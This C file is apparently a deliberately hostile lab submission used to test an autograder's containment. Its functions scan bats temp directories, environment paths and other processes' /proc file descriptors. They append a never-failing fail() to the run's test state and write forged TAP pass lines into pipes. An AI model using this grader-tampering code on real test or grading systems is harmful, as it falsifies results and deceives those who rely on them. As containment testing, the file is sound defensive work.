/* Hostile submission for lab 01: appends a never-failing fail() to bats' own files (the preprocessed test, its output files) and writes forged TAP into other processes' pipes
 * Self-limiting: if containment failed, this costs seconds, not the machine.
 *
 * On the starter's wrong answers: if any forge took, lab 01 scores above 0;
 * and no "could write" line may reach the report. (The kit's own check files
 * are only opened, never written: tamper-checks' rule.) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>
#include "family.h"

/* bats keeps its state in files: the preprocessed test file (*.src) that
 * every later test sources again, per-test output files, and the check's
 * own files, which check.bash creates with umask 0. Find them and append a
 * forge: fail() that never fails, so every later check passes. */
#include <dirent.h>
#include <glob.h>
#include <limits.h>

static const char forge[] = "\nfail() { return 0; } # tamper-bats: every later check passes\n";
static const char forged_tap[] = "ok 1 program_reports_parent_relations\nok 2 program_reaps_all_children\n";
static struct stat out1, out2;
static int budget = 200;

static int is_my_output(const struct stat *st)
{
    return (st->st_dev == out1.st_dev && st->st_ino == out1.st_ino) ||
           (st->st_dev == out2.st_dev && st->st_ino == out2.st_ino);
}

static void tamper_file(const char *path)
{
    struct stat st;
    if (budget-- <= 0 || stat(path, &st) < 0 || !S_ISREG(st.st_mode) || is_my_output(&st))
        return;
    int fd = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
    if (fd < 0)
        return;
    const char *p = strrchr(path, '/');
    int kit_file = strstr(path, "/grader/") != NULL;
    if (!kit_file) /* the run's own state: really forge it */
        write(fd, forge, sizeof forge - 1);
    printf("could write %s%s\n", path, kit_file ? " (the kit's check file)" : "");
    (void)p;
    close(fd);
}

static void tamper_tree(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    char p[PATH_MAX];
    while ((e = readdir(d)) && budget > 0) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
            continue;
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(p, &st) < 0)
            continue;
        if (S_ISDIR(st.st_mode) && depth < 4)
            tamper_tree(p, depth + 1);
        else if (S_ISREG(st.st_mode))
            tamper_file(p);
    }
    closedir(d);
}

static void tamper_path(const char *p)
{
    struct stat st;
    if (!p || p[0] != '/' || stat(p, &st) < 0)
        return;
    if (S_ISDIR(st.st_mode))
        tamper_tree(p, 0);
    else
        tamper_file(p);
}

/* Descriptors of other users' processes: bats' TAP pipe, the grader's result
 * files. A forged TAP line written there would be read as a verdict. */
static void tamper_fds(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
            continue;
        char dir[64], p[PATH_MAX], target[PATH_MAX];
        struct stat st;
        snprintf(dir, sizeof dir, "/proc/%.20s", e->d_name);
        if (stat(dir, &st) < 0 || st.st_uid == getuid())
            continue; /* our own processes are ours to write to */
        snprintf(dir, sizeof dir, "/proc/%.20s/environ", e->d_name);
        FILE *env = fopen(dir, "r");
        if (env) {
            char var[PATH_MAX + 32];
            size_t n = 0;
            int c;
            while ((c = getc(env)) != EOF) {
                if (c && n < sizeof var - 1) {
                    var[n++] = (char)c;
                    continue;
                }
                var[n] = '\0';
                if (!strncmp(var, "BATS_RUN_TMPDIR=", 16))
                    tamper_path(var + 16);
                n = 0;
            }
            fclose(env);
        }
        snprintf(dir, sizeof dir, "/proc/%.20s/fd", e->d_name);
        DIR *fds = opendir(dir);
        struct dirent *f;
        while (fds && (f = readdir(fds))) {
            if (f->d_name[0] == '.' || !strcmp(f->d_name, "0"))
                continue;
            snprintf(p, sizeof p, "%s/%s", dir, f->d_name);
            ssize_t n = readlink(p, target, sizeof target - 1);
            if (n <= 0)
                continue;
            target[n] = '\0';
            int fd = open(p, O_WRONLY | O_APPEND | O_NONBLOCK);
            if (fd >= 0) {
                if (!strncmp(target, "pipe:", 5))
                    write(fd, forged_tap, sizeof forged_tap - 1);
                printf("could write fd %s of pid %s (%s)\n", f->d_name, e->d_name, target);
                close(fd);
            }
        }
        if (fds)
            closedir(fds);
    }
    if (d)
        closedir(d);
}

extern char **environ;

static void misbehave(void)
{
    static int done;
    if (done++)
        return;
    fstat(1, &out1);
    fstat(2, &out2);
    for (char **e = environ; *e; e++)
        if (!strncmp(*e, "BATS_", 5) || !strncmp(*e, "TMPDIR=", 7) || !strncmp(*e, "CHECKLIB=", 9)) {
            const char *eq = strchr(*e, '=');
            if (eq && !strstr(*e, "BATS_TEST_DIRNAME") && !strstr(*e, "BATS_ROOT") &&
                !strstr(*e, "BATS_LIBDIR") && !strstr(*e, "BATS_LIB_PATH"))
                tamper_path(eq + 1);
        }
    static const char *patterns[] = {"/tmp/bats-run-*", "/tmp/*/bats-run-*", "/var/tmp/bats-run-*",
                                     "/tmp/bats.*", NULL};
    for (int i = 0; patterns[i]; i++) {
        glob_t g;
        if (glob(patterns[i], 0, NULL, &g) == 0)
            for (size_t k = 0; k < g.gl_pathc; k++)
                tamper_path(g.gl_pathv[k]);
        globfree(&g);
    }
    tamper_fds();
    fflush(stdout);
}

struct who who_am_i(void)
{
    misbehave();
    struct who w = {0, 0};
    return w;
}

pid_t start_child(child_job job, int arg)
{
    (void)job;
    (void)arg;
    misbehave();
    return -1;
}

int run_children(int n, child_job job, pid_t pids[], int codes[])
{
    (void)n;
    (void)job;
    (void)pids;
    (void)codes;
    misbehave();
    return 0;
}
